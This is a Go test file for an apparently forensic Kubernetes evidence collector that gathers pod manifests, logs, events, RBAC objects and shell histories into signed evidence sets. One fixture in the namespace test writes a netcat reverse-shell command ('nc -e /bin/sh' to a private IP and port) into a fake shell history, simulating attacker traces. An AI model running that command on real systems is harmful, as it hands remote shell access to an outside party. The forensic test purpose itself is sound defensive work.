package evidence_test

import (
	"crypto/ed25519"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	"github.com/kdfir/kdfir/internal/evidence"
	"github.com/kdfir/kdfir/internal/testenv"
)

// TestCollectNamespace collects every pod of a namespace and its
// namespace-level objects into one signed set.
func TestCollectNamespace(t *testing.T) {
	env := testenv.Get(t)
	f := newFixture(t, env)
	ctx := ctxFor(t, 2*time.Minute)
	_, err := env.RunPod(ctx, testenv.PodSpec{Namespace: f.ns, Name: "second", Logs: []string{"second pod"},
		Files: map[string]string{"/root/.ash_history": "nc -e /bin/sh 10.0.0.1 4444\n"}})
	must(t, err)
	key := newKey(t)
	c := newCollector(t, env, key)
	dest := t.TempDir()
	sink, err := evidence.OpenDest(dest)
	must(t, err)
	res, err := c.Collect(ctx, sink, evidence.Request{Kind: evidence.KindNamespace, Name: f.ns})
	must(t, err)
	if res.Action != "collect-namespace" || !strings.HasPrefix(res.Prefix, "testenv/"+f.ns+"/_namespace/") {
		t.Errorf("action %s prefix %s", res.Action, res.Prefix)
	}
	if len(res.Failed) != 0 {
		t.Fatalf("failed: %+v", res.Failed)
	}
	dir := filepath.Join(dest, filepath.FromSlash(res.Prefix))
	m := readManifest(t, dir)
	for _, p := range []string{
		"objects/namespaces/" + f.ns + ".yaml",
		"objects/services/" + f.ns + "/web.yaml",
		"objects/services/" + f.ns + "/other.yaml",
		"objects/networkpolicies.networking.k8s.io/" + f.ns + "/web-ingress.yaml",
		"objects/roles.rbac.authorization.k8s.io/" + f.ns + "/web-role.yaml",
		"objects/rolebindings.rbac.authorization.k8s.io/" + f.ns + "/web-secrets.yaml",
		"objects/rolebindings.rbac.authorization.k8s.io/" + f.ns + "/someone-else.yaml",
		"objects/serviceaccounts/" + f.ns + "/default.yaml",
		"objects/serviceaccounts/" + f.ns + "/web-sa.yaml",
		"events.yaml",
		"pods/web-7f9/pod.yaml",
		"pods/web-7f9/logs/app.log",
		"pods/web-7f9/history/app/root/.bash_history",
		"pods/second/pod.yaml",
		"pods/second/describe.txt",
		"pods/second/history/app/root/.ash_history",
		"objects/replicasets.apps/" + f.ns + "/" + f.rs.Name + ".yaml",
	} {
		if _, ok := artifact(m, p); !ok {
			t.Errorf("%s not collected\n%s", p, paths(m))
		}
	}
	// A listed pod's manifest carries its kind, like a fetched one.
	var pod corev1.Pod
	b, err := os.ReadFile(filepath.Join(dir, "pods", "second", "pod.yaml"))
	must(t, err)
	must(t, yaml.Unmarshal(b, &pod))
	if pod.Kind != "Pod" || pod.APIVersion != "v1" || pod.Name != "second" {
		t.Errorf("pod.yaml: %s %s %s", pod.APIVersion, pod.Kind, pod.Name)
	}
	var events corev1.EventList
	b, err = os.ReadFile(filepath.Join(dir, "events.yaml"))
	must(t, err)
	must(t, yaml.Unmarshal(b, &events))
	if len(events.Items) == 0 {
		t.Error("events.yaml holds no events")
	}
	if rep := verifyDir(t, dir, key.Public().(ed25519.PublicKey)); !rep.OK() {
		t.Errorf("verify: %+v", rep.Problems)
	}
}

// TestCollectNode collects a node, the pods on it and its events.
func TestCollectNode(t *testing.T) {
	env := testenv.Get(t)
	f := newFixture(t, env)
	ctx := ctxFor(t, 3*time.Minute)
	key := newKey(t)
	c := newCollector(t, env, key)
	dest := t.TempDir()
	sink, err := evidence.OpenDest(dest)
	must(t, err)
	// A pod of the same name in another namespace on the node: a node's
	// pods go under their namespace, so neither overwrites the other.
	twin := env.Namespace(t)
	if _, err := env.RunPod(ctx, testenv.PodSpec{Namespace: twin, Name: "web-7f9", Logs: []string{"twin"}}); err != nil {
		t.Fatal(err)
	}
	res, err := c.Collect(ctx, sink, evidence.Request{Kind: evidence.KindNode, Name: env.Node})
	must(t, err)
	if res.Action != "collect-node" || !strings.HasPrefix(res.Prefix, "testenv/_nodes/"+env.Node+"/") {
		t.Errorf("action %s prefix %s", res.Action, res.Prefix)
	}
	dir := filepath.Join(dest, filepath.FromSlash(res.Prefix))
	m := readManifest(t, dir)
	for _, p := range []string{"objects/nodes/" + env.Node + ".yaml", "events.yaml", "pods/" + f.ns + "/web-7f9/pod.yaml", "pods/" + f.ns + "/web-7f9/logs/app.log",
		"pods/" + twin + "/web-7f9/pod.yaml", "pods/" + twin + "/web-7f9/logs/app.log",
		"objects/deployments.apps/" + f.ns + "/web.yaml"} {
		if a, ok := artifact(m, p); !ok || a.Error != "" {
			t.Errorf("%s not collected: %+v\n%s", p, a, paths(m))
		}
	}
	if m.Target.Kind != "Node" || m.Target.Name != env.Node || m.Target.UID == "" {
		t.Errorf("target %+v", m.Target)
	}
	if rep := verifyDir(t, dir, key.Public().(ed25519.PublicKey)); !rep.OK() {
		t.Errorf("verify: %+v", rep.Problems)
	}
}
